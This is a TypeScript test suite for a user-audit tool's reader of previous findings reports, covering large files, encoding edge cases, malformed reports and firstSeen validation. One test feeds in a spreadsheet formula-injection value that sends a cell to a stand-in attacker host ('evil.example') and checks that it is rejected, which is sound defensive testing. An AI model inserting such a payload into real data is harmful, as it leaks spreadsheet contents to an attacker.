/**
 * Reading the previous report back: it is read a megabyte at a time and split into lines by hand, so a report
 * several megabytes long, with names whose UTF-8 bytes straddle the read boundaries and CRLF line ends, must come
 * back finding for finding.
 */
import { spawnSync } from "node:child_process"
import { mkdtempSync, rmSync, truncateSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { basename, join } from "node:path"
import { Effect } from "effect"
import { afterEach, beforeEach, expect, it } from "vitest"
import { firstSeenBounds, readFirstSeen, rejectedFirstSeenWarning } from "../../src/Audit/FirstSeen.js"
import { type PreviousReportLookup, readPreviousReport, reportsAheadOf } from "../../src/Audit/PreviousReport.js"

let directory = ""
beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), "previous-"))
})
afterEach(() => rmSync(directory, { recursive: true, force: true }))

const finding = (index: number) => ({
  severity: "medium",
  finding: "STALE_LOGIN",
  userId: `u${index}`,
  // Hangul is three bytes a character in UTF-8; the varying length moves the read boundaries through them. The
  // email is most of each line's bytes, so that the boundaries fall in a field the report keeps: with a long
  // detail (not kept) and a short email instead, not one fell in an email.
  email: `${"정".repeat(100 + (index % 50))}${index}@example.com`,
  id: `STALE_LOGIN:u${index}`,
  firstSeen: `2025-01-${String(1 + (index % 28)).padStart(2, "0")}T00:00:00.000Z`,
  suppressed: index % 5 === 0,
  detail: "민".repeat(index % 7)
})

it.each([
  ["LF", "\n"],
  ["CRLF", "\r\n"]
])("reads every finding of a report several megabytes long (%s line ends)", async (_name, eol) => {
  const count = 12_000
  const lines = Array.from({ length: count }, (_, index) => JSON.stringify(finding(index)))
  const text = `{${eol}"run": {${eol}  "startedAt": "2025-06-01T00:00:00.000Z"${eol}},${eol}"findings": [${eol}${lines.join(`,${eol}`)}${eol}]${eol}}${eol}`
  expect(Buffer.byteLength(text)).toBeGreaterThan(4 * 1024 * 1024)
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), text)

  const lookup = await Effect.runPromise(readPreviousReport(directory))
  if (lookup._tag !== "Found") throw new Error(lookup.reason)
  expect(lookup.report.runStartedAt).toBe("2025-06-01T00:00:00.000Z")
  // Every finding: four picked ones missed the few whose lines a read boundary cuts.
  expect([...lookup.report.findings.values()]).toEqual(
    Array.from({ length: count }, (_, index) => {
      const expected = finding(index)
      return {
        id: expected.id,
        finding: "STALE_LOGIN",
        severity: "medium",
        userId: expected.userId,
        email: expected.email,
        firstSeen: expected.firstSeen,
        suppressed: expected.suppressed
      }
    })
  )
})

it("reads a finding whose line is longer than a read of the file, among others", async () => {
  // Over two megabytes of two- and three-byte characters: the line outgrows the buffer twice, and reads end inside
  // characters.
  const long = { ...finding(2), detail: "é민".repeat(450_000) }
  const lines = [finding(1), long, finding(3)].map((item) => JSON.stringify(item))
  const text = `{\n"run": {\n  "startedAt": "2025-06-01T00:00:00.000Z"\n},\n"findings": [\n${lines.join(",\n")}\n]\n}\n`
  expect(Buffer.byteLength(lines[1] ?? "")).toBeGreaterThan(2 * 1024 * 1024)
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), text)
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  if (lookup._tag !== "Found") throw new Error(lookup.reason)
  expect([...lookup.report.findings.keys()]).toEqual(["STALE_LOGIN:u1", "STALE_LOGIN:u2", "STALE_LOGIN:u3"])
})

it.each([
  ["on one line, as jq -c writes it", (report: unknown) => `${JSON.stringify(report)}\n`],
  ["re-indented, as jq . writes it", (report: unknown) => `${JSON.stringify(report, null, 2)}\n`]
])("reads a report laid out otherwise, %s, as the same findings", async (_layout, write) => {
  const report = {
    run: {
      startedAt: "2025-06-01T00:00:00.000Z",
      apiBaseUrl: "https://api.acme.example",
      parameters: { staleDays: 45, pendingDays: 7, privilegedRoles: ["Admin"], policy: "cis", failOn: "high" }
    },
    findings: [finding(1), finding(2)]
  }
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), write(report))
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  if (lookup._tag !== "Found") throw new Error(lookup.reason)
  expect([...lookup.report.findings.keys()]).toEqual(["STALE_LOGIN:u1", "STALE_LOGIN:u2"])
  expect(lookup.report.apiBaseUrl).toBe("https://api.acme.example")
  expect(lookup.report.parameters).toEqual({ staleDays: 45, pendingDays: 7, privilegedRoles: ["Admin"], policy: "cis" })
})

it.each([
  ["with a byte order mark", (report: unknown) => `\uFEFF${JSON.stringify(report, null, 2)}\n`],
  ["on one line with a byte order mark", (report: unknown) => `\uFEFF${JSON.stringify(report)}`]
])("reads a report %s", async (_layout, write) => {
  const report = { run: { startedAt: "2025-06-01T00:00:00.000Z" }, findings: [finding(1)] }
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), write(report))
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  if (lookup._tag !== "Found") throw new Error(lookup.reason)
  expect([...lookup.report.findings.keys()]).toEqual(["STALE_LOGIN:u1"])
})

it("takes a finding of a report written before first-seen was recorded as first seen at that report's run", async () => {
  const { firstSeen: _firstSeen, ...older } = finding(3)
  const text = `{\n"run": {\n  "startedAt": "2025-06-01T00:00:00.000Z"\n},\n"findings": [\n${JSON.stringify(older)}\n]\n}\n`
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), text)
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  if (lookup._tag !== "Found") throw new Error(lookup.reason)
  expect(lookup.report.findings.get("STALE_LOGIN:u3")?.firstSeen).toBe("2025-06-01T00:00:00.000Z")
})

it("takes a finding of a report written before suppressions were recorded, or marked otherwise, as not suppressed", async () => {
  // Taken for suppressed, such a finding resolved now would be left out of the news for --email on-change.
  const { suppressed: _suppressed, ...older } = finding(1)
  const findings = [older, { ...finding(2), suppressed: "yes" }, { ...finding(3), suppressed: true }]
  const text = `{\n"run": {\n  "startedAt": "2025-06-01T00:00:00.000Z"\n},\n"findings": [\n${findings.map((item) => JSON.stringify(item)).join(",\n")}\n]\n}\n`
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), text)
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  if (lookup._tag !== "Found") throw new Error(lookup.reason)
  expect([...lookup.report.findings.values()].map((item) => item.suppressed)).toEqual([false, false, true])
})

it("says what is wrong with a report of another layout as its whole parse finds it", async () => {
  const { severity: _severity, ...withoutSeverity } = finding(2)
  const report = { run: { startedAt: "2025-06-01T00:00:00.000Z" }, findings: [finding(1), withoutSeverity] }
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), JSON.stringify(report))
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  expect(lookup).toMatchObject({
    _tag: "NotFound",
    reason: expect.stringContaining("a finding lacks a known code or severity")
  })
})

it.each([
  ["severity", { severity: "urgent" }],
  ["code", { finding: "STALE" }]
])("does not take a finding of an unknown %s (a hand-edited report) for one of this tool's", async (_what, change) => {
  const lines = [finding(1), { ...finding(2), ...change }].map((item) => JSON.stringify(item))
  const text = `{\n"run": {\n  "startedAt": "2025-06-01T00:00:00.000Z"\n},\n"findings": [\n${lines.join(",\n")}\n]\n}\n`
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), text)
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  expect(lookup).toMatchObject({
    _tag: "NotFound",
    reason: expect.stringContaining("a finding lacks a known code or severity")
  })
})

it.each([
  ["before its list of findings", 60, "it ends before it is complete"],
  ["in the middle of a finding", -30, "it ends before its list of findings is complete"]
])("says a report of its own layout cut off %s is incomplete", async (_where, cut, reason) => {
  const lines = [finding(1), finding(2)].map((item) => JSON.stringify(item))
  const whole = `{\n"run": {\n  "startedAt": "2025-06-01T00:00:00.000Z"\n},\n"findings": [\n${lines.join(",\n")}\n]\n}\n`
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), whole.slice(0, cut))
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  expect(lookup).toMatchObject({ _tag: "NotFound", reason: expect.stringContaining(reason) })
})

it("does not parse a report of another layout whole past 64 MiB, which takes memory in proportion", async () => {
  const report = { run: { startedAt: "2025-06-01T00:00:00.000Z", padding: "x".repeat(65 * 1024 * 1024) }, findings: [] }
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), JSON.stringify(report))
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  expect(lookup).toMatchObject({ _tag: "NotFound", reason: expect.stringContaining("too large (over 64 MiB)") })
})

it("does not read whole a file named like a report without a line break in its first 64 MiB", async () => {
  // A sparse file of 600 MiB of zero bytes: it was read into memory whole as one line, and said to be unreadable
  // in V8's words ("Cannot create a string longer than 0x1fffffe8 characters"); 3 GiB took 4 GB of memory.
  const path = join(directory, "user-audit-20250601T000000Z.json")
  writeFileSync(path, "")
  truncateSync(path, 600 * 1024 * 1024)
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  expect(lookup).toMatchObject({
    _tag: "NotFound",
    reason: expect.stringContaining("not laid out as this tool writes reports, and too large (over 64 MiB)")
  })
})

it("does not open a pipe named like a report, which would wait for a writer for ever", async () => {
  const pipe = join(directory, "user-audit-20990101T000000Z.json")
  expect(spawnSync("mkfifo", [pipe]).status).toBe(0)
  const lookup = await Effect.runPromise(readPreviousReport(directory).pipe(Effect.timeout("5 seconds")))
  expect(lookup).toMatchObject({ _tag: "NotFound", reason: expect.stringContaining("not a regular file") })
})

it("says a report cut off before the end of its findings cannot be read", async () => {
  writeFileSync(
    join(directory, "user-audit-20250601T000000Z.json"),
    `{\n"run": {"startedAt": "2025-06-01T00:00:00.000Z"},\n"findings": [\n${JSON.stringify(finding(1))},\n`
  )
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  expect(lookup._tag).toBe("NotFound")
  if (lookup._tag === "NotFound") expect(lookup.reason).toContain("ends before its list of findings is complete")
})

it("says the report directory could not be listed, rather than take the run for the first", async () => {
  // A file where the folder should be (ENOTDIR): a listing that fails, as an unreadable folder's does, even for root.
  const notAFolder = join(directory, "reports")
  writeFileSync(notAFolder, "")
  const lookup = await Effect.runPromise(readPreviousReport(notAFolder))
  expect(lookup).toMatchObject({
    _tag: "NotFound",
    reason: "the report directory could not be listed (a part of the path is not a directory)"
  })
  // Gone, it holds no report.
  const gone = await Effect.runPromise(readPreviousReport(join(directory, "gone")))
  expect(gone).toMatchObject({ _tag: "NotFound", reason: expect.stringContaining("no previous report") })
})

it("takes a firstSeen only as an RFC 3339 UTC timestamp no later than the report's run, nor this run's start", async () => {
  const reported = (id: string, firstSeen: unknown) => ({ ...finding(0), id, firstSeen })
  const findings = [
    reported("utc", "2025-05-01T00:00:00Z"),
    // Later than the run's start, not its finish: written while it ran.
    reported("during-the-run", "2025-06-01T00:30:00.000Z"),
    reported("garbage", "garbage"),
    reported("ahead", "2099-01-01T00:00:00Z"),
    reported("after-the-run", "2025-06-01T02:00:00.000Z"),
    reported("formula", '=HYPERLINK("http://evil.example/?x="&B2,"click")'),
    reported("offset", "2025-05-01T02:00:00+02:00"),
    reported("number", 1_700_000_000_000),
    // Reports before first-seen tracking: that run's start.
    { ...finding(0), id: "none", firstSeen: undefined }
  ]
  const text = `{\n"run": {"startedAt": "2025-06-01T00:00:00.000Z", "finishedAt": "2025-06-01T01:00:00.000Z"},\n"findings": [\n${findings.map((item) => JSON.stringify(item)).join(",\n")}\n]\n}\n`
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), text)
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  if (lookup._tag !== "Found") throw new Error(lookup.reason)
  expect(Object.fromEntries([...lookup.report.findings].map(([id, item]) => [id, item.firstSeen]))).toEqual({
    utc: "2025-05-01T00:00:00.000Z",
    "during-the-run": "2025-06-01T00:30:00.000Z",
    garbage: null,
    ahead: null,
    "after-the-run": null,
    formula: null,
    offset: null,
    number: null,
    none: "2025-06-01T00:00:00.000Z"
  })
  expect(lookup.report.rejectedFirstSeen).toEqual({
    count: 6,
    example: 'garbage: "garbage" is not an RFC 3339 UTC timestamp'
  })
  // Whatever that report says of its own run, nothing was first seen after this run started (beyond clock skew).
  const now = Date.parse("2025-06-01T00:10:00.000Z")
  const bounded = await Effect.runPromise(readPreviousReport(directory, undefined, now + 6 * 60_000))
  if (bounded._tag !== "Found") throw new Error(bounded.reason)
  expect(bounded.report.findings.get("during-the-run")?.firstSeen).toBeNull()
  expect(bounded.report.findings.get("utc")?.firstSeen).toBe("2025-05-01T00:00:00.000Z")
})

it("takes a firstSeen up to the instant the report's run finished, and not a millisecond after it", () => {
  const run = { startedAt: "2025-06-01T00:00:00.000Z", finishedAt: "2025-06-01T00:05:00.000Z" }
  const bounds = firstSeenBounds(run, Date.parse("2025-06-02T00:00:00.000Z"))
  expect(readFirstSeen("2025-06-01T00:05:00.000Z", bounds)).toEqual({ iso: "2025-06-01T00:05:00.000Z" })
  expect(readFirstSeen("2025-06-01T00:05:00.001Z", bounds)).toEqual({
    problem: '"2025-06-01T00:05:00.001Z" is later than the run that wrote the report'
  })
})

it("quotes a firstSeen not taken by its first 40 UTF-16 units, never cutting a character as the eye sees it", () => {
  const bounds = firstSeenBounds({ startedAt: "2025-06-01T00:00:00.000Z" }, Date.parse("2025-06-02T00:00:00.000Z"))
  expect(readFirstSeen(`${"x".repeat(39)}\u{1F600}!`, bounds)).toEqual({
    problem: `"${"x".repeat(39)}..." is not an RFC 3339 UTC timestamp`
  })
  // Nor a flag or a letter with its accent: both go whole, or not at all.
  expect(readFirstSeen(`${"x".repeat(38)}\u{1F1EB}\u{1F1F7}!`, bounds)).toEqual({
    problem: `"${"x".repeat(38)}..." is not an RFC 3339 UTC timestamp`
  })
  expect(readFirstSeen(`${"x".repeat(39)}e\u0301!`, bounds)).toEqual({
    problem: `"${"x".repeat(39)}..." is not an RFC 3339 UTC timestamp`
  })
})

it("says of one finding whose firstSeen was not taken that it is one, and of several how many", () => {
  expect(rejectedFirstSeenWarning("r.json", { count: 1, example: 'STALE_LOGIN:u1: "x" is not one' })).toBe(
    'The previous report (r.json) gives a finding a firstSeen this tool cannot have written (STALE_LOGIN:u1: "x" ' +
      "is not one): was it edited? It is taken as first seen by this run."
  )
  expect(rejectedFirstSeenWarning("r.json", { count: 2, example: "e" })).toContain(
    "gives 2 findings a firstSeen this tool cannot have written (e): was it edited? They are taken"
  )
})

it("keeps a finding of the report over an entry of its notJudged list of the same id", async () => {
  const listed = { ...finding(1), severity: "high" }
  const notJudged = [
    { ...finding(1), severity: "low" },
    { ...finding(2), severity: "low" }
  ]
  const run = { startedAt: "2025-06-01T00:00:00.000Z", changes: { notJudged } }
  const text = `{\n"run": ${JSON.stringify(run)},\n"findings": [\n${JSON.stringify(listed)}\n]\n}\n`
  writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), text)
  const lookup = await Effect.runPromise(readPreviousReport(directory))
  if (lookup._tag !== "Found") throw new Error(lookup.reason)
  expect([...lookup.report.findings.values()].map((item) => [item.id, item.severity])).toEqual([
    ["STALE_LOGIN:u1", "high"],
    ["STALE_LOGIN:u2", "low"]
  ])
})

it("names as stamped ahead of the run only findings reports, not the CSV beside one", () => {
  const names = [
    "user-audit-20990101T000000Z.csv",
    "user-audit-20990101T000000Z.json",
    "user-audit-20200101T000000Z.json"
  ]
  expect(reportsAheadOf(names, Date.parse("2026-01-01T00:00:00Z"))).toEqual(["user-audit-20990101T000000Z.json"])
})

/** A report of this tool's layout, as of `asOf` (left out when undefined), with no findings. */
const reportAsOf = (name: string, asOf: string | undefined) =>
  writeFileSync(
    join(directory, name),
    `{\n"run": {\n  "runId": "${name}",\n${asOf === undefined ? "" : `  "asOf": "${asOf}",\n`}` +
      `  "startedAt": "2026-01-01T00:00:00.000Z"\n},\n"findings": [\n]\n}\n`
  )

const chosen = (lookup: PreviousReportLookup) =>
  lookup._tag === "Found" ? basename(lookup.report.path) : `not found: ${lookup.reason}`

it("takes the report as of the latest instant not after this run's, whatever order the reports were written in", async () => {
  reportAsOf("user-audit-20260601T020000Z.json", "2026-06-01T02:00:00.000Z")
  reportAsOf("user-audit-20260602T020000Z.json", "2026-06-02T02:00:00.000Z")
  // A backfill run on 2 June, as of 1 May.
  reportAsOf("user-audit-20260602T100000Z.json", "2026-05-01T00:00:00.000Z")
  // As written before the as-of was recorded: as of when it was stamped.
  reportAsOf("user-audit-20260420T000000Z.json", undefined)
  const started = Date.parse("2026-06-02T12:00:00.000Z")
  const read = (asOf: string) => Effect.runPromise(readPreviousReport(directory, undefined, started, Date.parse(asOf)))

  const nightly = await read("2026-06-02T12:00:00.000Z")
  expect(chosen(nightly)).toBe("user-audit-20260602T020000Z.json")
  expect(nightly.passedOver).toEqual([
    { name: "user-audit-20260602T100000Z.json", asOf: Date.parse("2026-05-01T00:00:00.000Z") }
  ])
  expect(nightly.datedAfterAsOf).toBeUndefined()

  const backfill = await read("2026-05-15T00:00:00.000Z")
  expect(chosen(backfill)).toBe("user-audit-20260602T100000Z.json")
  expect(backfill.datedAfterAsOf?.map((report) => report.name)).toEqual([
    "user-audit-20260601T020000Z.json",
    "user-audit-20260602T020000Z.json"
  ])
  expect(backfill.passedOver).toBeUndefined()

  const older = await read("2026-04-25T00:00:00.000Z")
  expect(chosen(older)).toBe("user-audit-20260420T000000Z.json")
  expect(older.datedAfterAsOf).toHaveLength(3)

  const oldest = await read("2026-04-01T00:00:00.000Z")
  expect(chosen(oldest)).toBe("not found: no report in the report directory is as of this run's as-of or before it")
  expect(oldest.datedAfterAsOf).toHaveLength(4)
})

it("lists the reports as of after this run's as-of earliest first, not in the order of their names", async () => {
  // Two backfills, the later one as of the earlier day.
  reportAsOf("user-audit-20260602T100000Z.json", "2026-06-01T00:00:00.000Z")
  reportAsOf("user-audit-20260602T110000Z.json", "2026-05-20T00:00:00.000Z")
  reportAsOf("user-audit-20260602T120000Z.json", "2026-05-25T00:00:00.000Z")
  const started = Date.parse("2026-06-02T12:30:00.000Z")
  const lookup = await Effect.runPromise(
    readPreviousReport(directory, undefined, started, Date.parse("2026-05-01T00:00:00.000Z"))
  )
  expect(lookup.datedAfterAsOf?.map((report) => report.name)).toEqual([
    "user-audit-20260602T110000Z.json",
    "user-audit-20260602T120000Z.json",
    "user-audit-20260602T100000Z.json"
  ])
})

it("takes neither the email nor the mark written beside a report for the report to compare with", async () => {
  // The run's as-of is the moment before it started, which its stamp, cut to the second, may fall after.
  reportAsOf("user-audit-20260602T020000Z.json", "2026-06-02T01:59:59.900Z")
  writeFileSync(join(directory, "user-audit-20260602T020000Z.eml"), "Subject: [Panther user audit] ...\r\n")
  writeFileSync(join(directory, "user-audit-20260602T020000Z.undelivered"), "pending\n")
  const started = Date.parse("2026-06-03T02:00:00.000Z")
  const lookup = await Effect.runPromise(readPreviousReport(directory, undefined, started, started))
  expect(chosen(lookup)).toBe("user-audit-20260602T020000Z.json")
})

it("dates a report whose as-of cannot be read by its name, and still says why it cannot be read", async () => {
  reportAsOf("user-audit-20260531T020000Z.json", "not a time")
  reportAsOf("user-audit-20260601T020000Z.json", "2026-06-01T02:00:00.000Z")
  writeFileSync(join(directory, "user-audit-20260602T020000Z.json"), "{ not json")
  const started = Date.parse("2026-06-02T12:00:00.000Z")
  const read = (asOf: string) => Effect.runPromise(readPreviousReport(directory, undefined, started, Date.parse(asOf)))
  // The newest by its name: the run says it cannot be read, as it did before reports were dated by their as-of.
  expect(chosen(await read("2026-06-02T12:00:00.000Z"))).toMatch(
    /^not found: the previous report user-audit-20260602T020000Z\.json could not be read/
  )
  const backfill = await read("2026-05-31T12:00:00.000Z")
  expect(chosen(backfill)).toBe("user-audit-20260531T020000Z.json")
  expect(backfill.datedAfterAsOf?.map((report) => [report.name, new Date(report.asOf).toISOString()])).toEqual([
    ["user-audit-20260601T020000Z.json", "2026-06-01T02:00:00.000Z"],
    ["user-audit-20260602T020000Z.json", "2026-06-02T02:00:00.000Z"]
  ])
})

it.each([
  ["as this tool lays it out", "\n"],
  ["on one line, as jq -c leaves it", ""]
])(
  "notes an id the report holds several findings of, %s, so no change of severity is read into it",
  async (_name, eol) => {
    // Two records without an id, one email in two cases: one finding id, two severities.
    const shared = (severity: string, email: string) => ({
      severity,
      finding: "STALE_LOGIN",
      userId: null,
      email,
      id: "STALE_LOGIN:email:pat@example.com"
    })
    const findings = [shared("high", "pat@example.com"), shared("medium", "PAT@example.com"), finding(1)]
    const run = { startedAt: "2025-06-01T00:00:00.000Z" }
    const text = `{${eol}"run": ${JSON.stringify(run)},${eol}"findings": [${eol}${findings.map((item) => JSON.stringify(item)).join(`,${eol}`)}${eol}]${eol}}${eol}`
    writeFileSync(join(directory, "user-audit-20250601T000000Z.json"), text)
    const lookup = await Effect.runPromise(readPreviousReport(directory))
    if (lookup._tag !== "Found") throw new Error(lookup.reason)
    expect([...lookup.report.sharedIds]).toEqual(["STALE_LOGIN:email:pat@example.com"])
    expect([...lookup.report.findings.keys()]).toEqual(["STALE_LOGIN:email:pat@example.com", "STALE_LOGIN:u1"])
  }
)
